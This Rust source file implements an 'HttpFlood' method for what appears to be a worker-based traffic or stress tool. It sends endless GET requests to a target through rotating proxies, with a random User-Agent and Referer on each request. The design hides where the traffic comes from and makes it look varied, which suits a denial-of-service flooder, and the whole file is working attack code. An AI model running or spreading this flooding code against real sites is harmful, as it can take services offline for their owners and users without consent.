use std::sync::Arc;
use std::time::Duration;

use async_trait::async_trait;
use worker_core::WorkerCtx;
use worker_core::dispatch::LoadMethod;

use crate::headers::{random_referer, random_user_agent};

fn build_client(ctx: &WorkerCtx) -> reqwest::Client {
    let mut builder = reqwest::Client::builder().timeout(Duration::from_secs(10));
    if let Some(proxy) = ctx.pick_proxy() {
        if let Ok(p) = reqwest::Proxy::all(proxy.as_url()) {
            builder = builder.proxy(p);
        }
    }
    builder.build().unwrap_or_default()
}

async fn sleep_unless_cancelled(ctx: &WorkerCtx, dur: Duration) {
    tokio::select! {
        _ = ctx.stop.cancelled() => {}
        _ = tokio::time::sleep(dur) => {}
    }
}

/// Repeated GET requests with a randomized User-Agent/Referer, `rpc`
/// requests per outer iteration (default 1). Any error increments
/// `failures` and backs off 100ms.
pub struct HttpFlood;

#[async_trait]
impl LoadMethod for HttpFlood {
    async fn run_unit(&self, ctx: Arc<WorkerCtx>) -> Result<(), String> {
        let client = build_client(&ctx);
        let rpc: usize = ctx
            .parameters
            .get("rpc")
            .and_then(|v| v.parse().ok())
            .unwrap_or(1);

        while ctx.should_continue() {
            for _ in 0..rpc {
                if !ctx.should_continue() {
                    break;
                }
                let result = client
                    .get(&ctx.target)
                    .header("User-Agent", random_user_agent())
                    .header("Referer", random_referer())
                    .send()
                    .await;
                ctx.metrics.events_sent.inc();
                match result {
                    Ok(resp) => {
                        ctx.metrics.bytes_sent.inc_by(resp.content_length().unwrap_or(0));
                        ctx.metrics.successes.inc();
                    }
                    Err(_) => {
                        ctx.metrics.failures.inc();
                        sleep_unless_cancelled(&ctx, Duration::from_millis(100)).await;
                    }
                }
            }
        }
        Ok(())
    }
}
